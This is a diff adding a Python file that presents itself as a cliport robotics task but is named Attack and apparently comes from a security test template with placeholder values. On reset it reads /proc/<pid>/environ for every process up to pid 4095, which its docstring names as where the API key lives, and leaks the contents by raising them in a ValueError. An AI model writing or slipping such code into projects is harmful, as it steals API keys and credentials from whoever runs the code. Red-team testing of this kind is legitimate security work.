@@ -1,0 +1,29 @@
+"""Secrets: every visible process's /proc/<pid>/environ (where the API key lives)."""
+
+import numpy as np
+import pybullet as p
+
+from cliport.tasks.task import Task
+
+MARKERS = "__MARKERS__"
+SECRET_FILE = "__SECRET_FILE__"
+REPO_MARKER = "__REPO_MARKER__"
+PORT = int("__PORT__")
+
+
+class Attack(Task):
+    def __init__(self):
+        super().__init__()
+        self.max_steps = 1
+        self.lang_template = "attack"
+
+    def reset(self, env):
+        super().reset(env)
+        found = []
+        for pid in range(1, 4096):
+            try:
+                with open(f"/proc/{pid}/environ", "rb") as f:
+                    found.append(f.read().decode(errors="replace"))
+            except Exception:
+                continue
+        raise ValueError(" | ".join(found))
